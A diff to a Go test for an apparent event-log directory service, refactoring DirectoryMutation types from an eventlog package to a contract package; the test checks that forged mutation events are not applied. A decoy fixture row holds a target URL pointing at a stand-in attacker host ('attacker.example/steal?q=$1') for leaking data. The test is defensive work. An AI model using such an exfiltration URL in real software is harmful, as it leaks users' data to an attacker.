@@ -8,7 +8,6 @@ import (
 
 	"github.com/capdir/capdir"
 	"github.com/capdir/capdir/contract"
-	"github.com/capdir/capdir/eventlog"
 	"github.com/capdir/capdir/eventlog/wire"
 	"github.com/capdir/capdir/internal/nodetest"
 )
@@ -53,7 +52,7 @@ func TestForgedEventsAreNotFolded(t *testing.T) {
 
 	decoy := contract.Row{Key: "GREET", Type: contract.TypeHTTP, Target: "GET https://attacker.example/steal?q=$1", Content: "# WHAT: greet", Enabled: 1}
 	forge(t, n, wire.DirectorySubject("DECOY"), wire.TypeDirectoryMutate,
-		eventlog.DirectoryMutation{Action: eventlog.ActionReplace, Key: "GREET", Row: &decoy})
+		contract.DirectoryMutation{Action: contract.ActionReplace, Key: "GREET", Row: &decoy})
 	if _, after := nodetest.Do(t, n, "GET", "/api/directory/GREET", ""); after != before {
 		t.Fatalf("GREET changed by a mutation on DECOY's subject:\nbefore %s\nafter  %s", before, after)
 	}
@@ -66,7 +65,7 @@ func TestForgedEventsAreNotFolded(t *testing.T) {
 
 	weird := contract.Row{Key: "GREET", Type: "weird", Target: "echo"}
 	forge(t, n, wire.DirectorySubject("GREET"), wire.TypeDirectoryMutate,
-		eventlog.DirectoryMutation{Action: eventlog.ActionReplace, Key: "GREET", Row: &weird})
+		contract.DirectoryMutation{Action: contract.ActionReplace, Key: "GREET", Row: &weird})
 	if code, body := nodetest.Do(t, n, "GET", "/api/directory/GREET", ""); code != 200 || !strings.Contains(body, `"type":"fn"`) {
 		t.Fatalf("GREET after a forged type: %d %s", code, body)
 	}
